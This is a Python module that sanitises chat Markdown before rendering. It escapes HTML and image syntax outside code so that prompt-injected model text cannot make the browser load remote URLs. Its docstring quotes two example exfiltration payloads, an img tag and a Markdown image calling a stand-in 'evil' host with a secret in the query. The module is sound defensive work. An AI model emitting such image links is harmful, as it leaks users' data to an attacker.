"""Chat text made inert before the browser renders it: no raw HTML, no remote images.

Model text (and through it, any prompt injection) and program output are shown as Markdown. Left alone, a
plain `<img src=https://evil/?q=SECRET>` or `![x](https://evil/x.png)` makes the user's browser fetch any
URL: the usual exfiltration channel. So outside code, every `<` becomes `&lt;` (no tag of any kind
survives, while the text still reads the same) and every `![` becomes `\\![` (an image turns into a plain
link, which loads nothing until clicked). Code is left as written: fenced blocks (``` or ~~~) and inline
code spans on one line, which the renderer shows as text anyway. Where this parser and the browser's
Markdown renderer might disagree about what is code (a span crossing lines, or holding `|`, which splits a
table cell), the text is escaped: at worst a `&lt;` shows in code, never a tag outside it.

Plots still show inline: they are image files the app serves itself, sent as file messages, not Markdown.
The Content-Security-Policy (`app.security_headers`) is the second line: even markup that got through
could not load anything from another origin.

What this module deliberately does not do: render Markdown, or sanitise file messages (their paths are the
app's own).
"""

from __future__ import annotations

import re

_FENCE_OPEN = re.compile(r"^ {0,3}(`{3,}|~{3,})(.*)$")
_BACKTICKS = re.compile(r"`+")


def sanitize_markdown(text: str) -> str:
    """`text` with raw HTML and images made inert outside code (see the module docstring)."""
    out: list[str] = []
    prose: list[str] = []
    fence: str | None = None
    for line in text.splitlines(keepends=True):
        body = line.rstrip("\r\n")
        if fence is None:
            match = _FENCE_OPEN.match(body)
            if match and not (match.group(1)[0] == "`" and "`" in match.group(2)):
                out.append(_inline("".join(prose)))
                prose = []
                fence = match.group(1)
                out.append(_info_line(line))
            else:
                prose.append(line)
        else:
            out.append(line)
            stripped = body.strip(" ")
            if (
                len(body) - len(body.lstrip(" ")) <= 3
                and stripped
                and set(stripped.rstrip(" \t")) == {fence[0]}
                and len(stripped.rstrip(" \t")) >= len(fence)
            ):
                fence = None
    out.append(_inline("".join(prose)))
    return "".join(out)


def _info_line(line: str) -> str:
    """A fence's opening line: its info string ends up in an attribute; keep it free of markup anyway."""
    return line.replace("<", "").replace(">", "")


def _inline(text: str) -> str:
    """Escape prose, keeping single-line code spans (CommonMark: a run of n backticks up to the next run of
    exactly n; a backtick after an odd number of backslashes opens nothing)."""
    out: list[str] = []
    pos = 0
    while True:
        opener = _next_opener(text, pos)
        if opener is None:
            break
        start, end = opener
        length = end - start
        closer = next(
            (m for m in _BACKTICKS.finditer(text, end) if len(m.group()) == length),
            None,
        )
        if closer is None:
            break
        span = text[start : closer.end()]
        if "\n" in span or "|" in span:
            out.append(_escape(text[pos:end]))
            pos = end
            continue
        out.append(_escape(text[pos:start]))
        out.append(span)
        pos = closer.end()
    out.append(_escape(text[pos:]))
    return "".join(out)


def _next_opener(text: str, pos: int) -> tuple[int, int] | None:
    for match in _BACKTICKS.finditer(text, pos):
        start, end = match.span()
        first = start
        while first > 0 and text[first - 1] == "\\":
            first -= 1
        if (start - first) % 2:
            start += 1  # the first backtick is escaped: the rest of the run may still open a span
        if start < end:
            return start, end
    return None


def _escape(prose: str) -> str:
    return prose.replace("<", "&lt;").replace("![", "\\![")


def sanitize_title(title: str) -> str:
    """A message title (it names the block's language, which the model chose): no angle brackets at all."""
    return title.replace("<", "").replace(">", "")


def sanitize_messages(messages: list[dict]) -> list[dict]:
    """Chatbot messages with every text content and title made inert; file messages pass as they are."""
    safe = []
    for message in messages:
        content = message.get("content")
        if isinstance(content, str):
            message = {**message, "content": sanitize_markdown(content)}
        metadata = message.get("metadata")
        if isinstance(metadata, dict) and isinstance(metadata.get("title"), str):
            message = {**message, "metadata": {**metadata, "title": sanitize_title(metadata["title"])}}
        safe.append(message)
    return safe
